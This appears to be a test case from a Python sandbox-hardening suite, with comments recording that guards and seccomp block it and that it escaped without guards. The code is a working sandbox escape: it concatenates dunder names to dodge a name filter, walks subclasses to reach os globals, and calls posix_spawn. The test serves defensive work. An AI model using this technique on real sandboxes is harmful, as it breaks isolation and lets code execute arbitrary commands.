# attack: subclass walk
# stops: guards: variable 'getattr' is not defined
# os: process/seccomp: Operation not permitted
# baseline: -guards => escaped
# getattr with dunder names built at run time, past the compile-time name check
cls = getattr((), "__cl" + "ass__")
base = getattr(cls, "__ba" + "se__")
for c in getattr(base, "__subcl" + "asses__")():
    if getattr(c, "__na" + "me__") == "_wrap_close":
        found = getattr(getattr(c, "__in" + "it__"), "__glo" + "bals__")
        print("ESCAPED", found["posix_spawn"]("/bin/true", ["true"], {}))
